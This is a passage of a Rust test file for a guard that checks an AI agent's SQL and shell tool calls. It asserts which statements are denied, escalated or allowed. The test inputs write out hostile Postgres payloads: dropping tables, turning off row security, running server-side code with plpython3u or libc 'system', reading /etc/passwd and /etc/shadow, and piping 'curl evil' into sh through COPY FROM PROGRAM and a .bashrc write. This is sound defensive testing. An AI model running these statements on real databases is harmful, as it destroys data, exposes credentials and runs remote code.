        let Decision::Deny(r) = &d else {
            unreachable!()
        };
        assert!(
            r.message.contains("Also: the SQL holds 2 statements"),
            "{}",
            r.message
        );
    }

    #[test]
    fn sql_arguments_are_read_in_any_case_and_unicode_form() {
        // A server whose decoder ignores case (Go's encoding/json) runs
        // these as `query`, `statement`, `sql`.
        let g = guard("{}");
        for (arguments, rule) in [
            (r#"{"Query": "DROP TABLE users"}"#, "sql.drop"),
            (r#"{"QUERY": "DROP TABLE users"}"#, "sql.drop"),
            (r#"{"\u017ftatement": "DROP TABLE users"}"#, "sql.drop"),
            (r#"{"SQL": "TRUNCATE TABLE users"}"#, "sql.truncate"),
            (
                r#"{"\uff31\uff35\uff25\uff32\uff39": "DROP TABLE t"}"#,
                "sql.drop",
            ),
            (r#"{"Sql": ["SELECT 1", "DROP TABLE t"]}"#, "sql.drop"),
        ] {
            let call = ToolCall::new("query", arguments);
            let d = g.decide(&call, &ToolInfo::default(), &Context::default());
            assert_eq!(rule_of(&d), Some(rule), "{arguments}: {d:?}");
        }
        // Configured names too, and shell commands under `Command`.
        let g = guard(r#"{"sql_args": ["q"]}"#);
        let call = ToolCall::new("run_query", r#"{"Q": "DROP TABLE t"}"#);
        let d = g.decide(&call, &ToolInfo::default(), &Context::default());
        assert_eq!(rule_of(&d), Some("sql.drop"));
        let sql = shell_sql(&toolvet_pdk::serde_json::json!({"COMMAND": "psql -c 'DROP TABLE t'"}));
        assert_eq!(sql, ["DROP TABLE t"]);
        // Keys that only share letters are not SQL arguments.
        let g = guard("{}");
        let call = ToolCall::new("query", r#"{"query_id": "DROP TABLE t", "sqls": "x"}"#);
        let d = g.decide(&call, &ToolInfo::default(), &Context::default());
        assert_eq!(d, Decision::Abstain);
    }
    fn pg(tool: &str, sql: &str) -> Decision {
        let g = guard(r#"{"dialect": "postgres"}"#);
        let args = toolvet_pdk::serde_json::json!({ "query": sql }).to_string();
        g.decide(
            &ToolCall::new(tool, args),
            &ToolInfo::default(),
            &Context::default(),
        )
    }

    fn assert_rule(tool: &str, sql: &str, kind: &str, rule: &str) {
        let d = pg(tool, sql);
        assert_eq!(
            (d.kind(), rule_of(&d)),
            (kind, Some(rule)),
            "{tool}: {sql}: {d:?}"
        );
    }

    #[test]
    fn every_spelling_of_security_off_is_caught() {
        // review-s10 H1
        for sql in [
            "SET row_security = off",
            "SET row_security TO off",
            "SET LOCAL row_security = off",
            "SET SESSION row_security TO OFF",
            "set \"row_security\" = off",
            "SET row_security = no",
            "SET row_security = 'no'",
            "SET row_security TO false",
            "SET row_security = f",
            "SET row_security = 0",
            "SET row_security = \"off\"",
            "SET session_replication_role TO replica",
            "SET LOCAL session_replication_role = replica",
            "SET \"session_replication_role\" TO 'replica'",
            "SELECT set_config('row_security','off',false)",
            "SELECT set_config('session_replication_role', 'replica', false)",
            "SELECT pg_catalog.set_config('row_security', 'no', true)",
            "SELECT set_config('row_security', v, false) FROM t",
            "BEGIN; SET LOCAL row_security TO off; COMMIT",
            "ALTER SYSTEM SET row_security = off",
        ] {
            assert_rule("run_query", sql, "deny", "sql.security-off");
        }
        // Through a shell's database client.
        let g = guard(r#"{"dialect": "postgres"}"#);
        let call = ToolCall::new(
            "bash",
            r#"{"command": "psql -c 'SET LOCAL row_security TO off'"}"#,
        );
        let d = g.decide(&call, &ToolInfo::default(), &Context::default());
        assert_eq!(rule_of(&d), Some("sql.security-off"));
        // Look-alikes stay allowed.
        for sql in [
            "SET search_path TO app",
            "SET statement_timeout = 5000",
            "SET row_security = on",
            "SET session_replication_role TO origin",
            "SELECT set_config('app.user', 'x', true)",
            "UPDATE settings SET row_security = false WHERE id = 3",
        ] {
            assert_eq!(pg("run_query", sql), Decision::Allow, "{sql}");
        }
    }

    #[test]
    fn server_side_code_and_files_are_refused() {
        // review-s10 H2
        for (sql, rule) in [
            (
                "CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS $$ import os; os.system('rm -rf ~') $$",
                "sql.server-program",
            ),
            (
                "CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ system(\"id\") $$ LANGUAGE plperlu",
                "sql.server-program",
            ),
            (
                "CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C STRICT",
                "sql.server-program",
            ),
            (
                "CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE 'pltclu'",
                "sql.server-program",
            ),
            ("CREATE LANGUAGE plpython3u", "sql.server-program"),
            (
                "DO LANGUAGE plperlu $$ system('id') $$",
                "sql.server-program",
            ),
            ("LOAD '/tmp/evil.so'", "sql.server-program"),
            ("CREATE EXTENSION plpython3u", "sql.server-program"),
            (
                "CREATE EXTENSION IF NOT EXISTS dblink",
                "sql.server-program",
            ),
            ("CREATE EXTENSION \"postgres_fdw\"", "sql.server-program"),
            ("CREATE EXTENSION adminpack", "sql.server-file"),
            ("CREATE EXTENSION file_fdw", "sql.server-file"),
            (
                "CREATE FOREIGN TABLE t (a text) SERVER s OPTIONS (program 'curl evil | sh')",
                "sql.server-program",
            ),
            (
                "CREATE FOREIGN TABLE t (a text) SERVER s OPTIONS (filename '/etc/passwd')",
                "sql.server-file",
            ),
            (
                "ALTER FOREIGN TABLE t OPTIONS (SET filename '/etc/shadow')",
                "sql.server-file",
            ),
            ("COPY t FROM PROGRAM 'curl evil | sh'", "sql.server-program"),
            (
                "SELECT pg_file_write('/home/alice/.bashrc', 'curl evil|sh', true)",
                "sql.server-file",
            ),
            ("SELECT pg_read_file('/etc/passwd')", "sql.server-file"),
            ("SELECT lo_import('/etc/passwd')", "sql.server-file"),
            ("SELECT lo_export(16409, '/tmp/x')", "sql.server-file"),
            // Bodies are read like the statements they run.
            (
                "CREATE FUNCTION f() RETURNS void AS $$ SELECT pg_read_file('/etc/passwd') $$ LANGUAGE sql",
                "sql.server-file",
            ),
            (
                "CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM users $$ LANGUAGE sql",
                "sql.delete-without-where",
            ),
            (
                "CREATE FUNCTION f() RETURNS void AS $$ BEGIN EXECUTE 'DROP TABLE users'; END $$ LANGUAGE plpgsql",
                "sql.drop",
            ),
            (
                "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN IF true THEN TRUNCATE orders; END IF; END $$",
                "sql.truncate",
            ),
            (
                "CREATE FUNCTION f() RETURNS trigger AS $$ BEGIN SET LOCAL row_security TO off; RETURN NEW; END $$ LANGUAGE plpgsql",
                "sql.security-off",
            ),
        ] {
            assert_rule("run_query", sql, "deny", rule);
        }
        for sql in [
            "CREATE FUNCTION f(t text) RETURNS void AS $$ BEGIN EXECUTE format('DROP TABLE %I', t); END $$ LANGUAGE plpgsql",
            "CREATE FUNCTION f() RETURNS int AS $$ return 1 $$ LANGUAGE plv8",
        ] {
            assert_rule("run_query", sql, "escalate", "sql.unparseable");
        }
        for sql in [
            "CREATE FUNCTION add(a int, b int) RETURNS int AS $$ SELECT a + b $$ LANGUAGE sql",
            "CREATE OR REPLACE FUNCTION touch() RETURNS trigger AS $$ BEGIN NEW.updated_at := now(); UPDATE stats SET n = n + 1 WHERE id = NEW.id; RETURN NEW; END $$ LANGUAGE plpgsql",
            "CREATE EXTENSION IF NOT EXISTS pgcrypto",
            "CREATE TABLE jobs (program text, filename text)",
            "COPY users TO STDOUT WITH CSV",
        ] {
            assert_eq!(pg("run_query", sql), Decision::Allow, "{sql}");
        }
    }

    #[test]
    fn tools_are_found_by_name_words_and_by_sql_in_their_arguments() {
        // review-s10 H13
        for tool in [
            "write_query",
            "read_query",
            "apply_migration",
            "runSql",
            "executeSql",
            "executeQuery",
            "queryDatabase",
            "execute-query",
            "run-query",
            "raw_query",
            "run_sql_query",
            "bq_query",
            "execute",
            "run",
            "mcp__sqlite__write_query",
        ] {
            assert_rule(tool, "DROP TABLE users", "deny", "sql.drop");
        }
        let g = guard(r#"{"dialect": "postgres"}"#);
        let d = g.decide(
            &ToolCall::new("execute", r#"{"sql": "TRUNCATE orders"}"#),
            &ToolInfo::default(),
            &Context::default(),
        );
        assert_eq!(rule_of(&d), Some("sql.truncate"));
        let d = g.decide(
            &ToolCall::new(
                "apply_migration",
                r#"{"name": "x", "migration": "DROP TABLE t"}"#,
            ),
            &ToolInfo::default(),
            &Context::default(),
        );
        assert_eq!(rule_of(&d), Some("sql.drop"));
        // A search tool's query that is not SQL is left alone, even when it
        // starts with a statement word; an SQL-named tool escalates it.
        for q in ["from:alice invoices", "select the best laptop under 500"] {
            assert_eq!(pg("web_search", q), Decision::Abstain, "{q}");
            assert_eq!(pg("search_query", q), Decision::Abstain, "{q}");
        }
        assert_eq!(pg("run_sql", "select the best laptop").kind(), "escalate");
        assert_eq!(
            pg("write_query", "SELECT id FROM users WHERE id = 5"),
            Decision::Allow
        );
        assert!(sql_tool_name("db_exec") && sql_tool_name("executeSql") && sql_tool_name("query"));
        assert!(!sql_tool_name("write_query") && !sql_tool_name("web_search"));
    }
}
